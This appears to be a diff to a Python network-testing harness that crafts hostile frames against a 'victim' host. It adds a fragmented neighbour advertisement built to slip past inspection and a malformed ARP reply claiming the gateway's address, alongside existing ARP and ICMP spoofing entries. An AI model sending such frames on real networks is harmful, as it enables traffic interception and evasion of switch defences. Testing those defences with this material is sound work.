@@ -96,6 +96,20 @@ def fragments(stage, kind, body):
     return [to_all(stage, ipv6(source, ALL_NODES, FRAGMENT, part)) for part in (first, rest)]
 
 
+def first_fragment(stage, kind, body):
+    """It ends before whom it is about, so that who looks at it only cannot tell."""
+    source = link_local(stage.mac)
+    part = struct.pack("!BBHI", ICMPV6, 0, 1, 0x766E6964) + icmp6_body(source, ALL_NODES, kind, body)[:8]
+    return to_all(stage, ipv6(source, ALL_NODES, FRAGMENT, part))
+
+
+def odd_arp(stage, length):
+    """The gateway's address stands where it does by the header, and an honest one where Ethernet has it."""
+    sender = mac_bytes(stage.mac) + socket.inet_aton(stage.ip).ljust(length - 6, b"\0")
+    return struct.pack("!HHBBH", 1, ETH_IPV4, length, 4, 2) + sender + socket.inet_aton(stage.gateway) + \
+        mac_bytes(BROADCAST).ljust(length, b"\xff") + socket.inet_aton(stage.victim)
+
+
 def dhcp_offer(stage):
     body = struct.pack("!BBBBIHH4s4s4s4s", 2, 1, 6, 0, 0x12345678, 0, 0, bytes(4), socket.inet_aton(stage.victim),
                        socket.inet_aton(stage.ip), bytes(4)) + mac_bytes(stage.victim_mac).ljust(208, b"\0")
@@ -146,6 +160,7 @@ def hostile(stage):
             2, stage.mac, stage.gateway, BROADCAST, stage.gateway))],
         "ARP answer for the gateway": [ethernet(stage.victim_mac, stage.mac, ETH_ARP, arp(
             2, stage.mac, stage.gateway, stage.victim_mac, stage.victim))],
+        "ARP for the gateway with long addresses": [ethernet(BROADCAST, stage.mac, ETH_ARP, odd_arp(stage, 10))],
         "ARP question in the gateway's name": [ethernet(BROADCAST, stage.mac, ETH_ARP, arp(
             1, stage.mac, stage.gateway, "00:00:00:00:00:00", stage.victim))],
         "ARP that lies about the MAC": [ethernet(BROADCAST, stage.mac, ETH_ARP, arp(
@@ -169,6 +184,7 @@ def hostile(stage):
         "ICMP redirect in the gateway's name": [redirect4(stage, stage.gateway)],
         "neighbour advertisement for the gateway": [to_all(stage, icmp6(own, ALL_NODES, 136,
                                                                         neighbour(stage, stage.gateway6)))],
+        "neighbour advertisement in fragments": [first_fragment(stage, 136, neighbour(stage, stage.gateway6))],
         "neighbour advertisement for fe80::1": [to_all(stage, icmp6(own, ALL_NODES, 136, neighbour(stage, "fe80::1")))],
         "BPDU": [llc(stage, "01:80:c2:00:00:00", b"\x42\x42\x03" + bytes(35) + stage.mark)],
         "BPDU to the victim": [llc(stage, stage.victim_mac, b"\x42\x42\x03" + bytes(35) + stage.mark)],
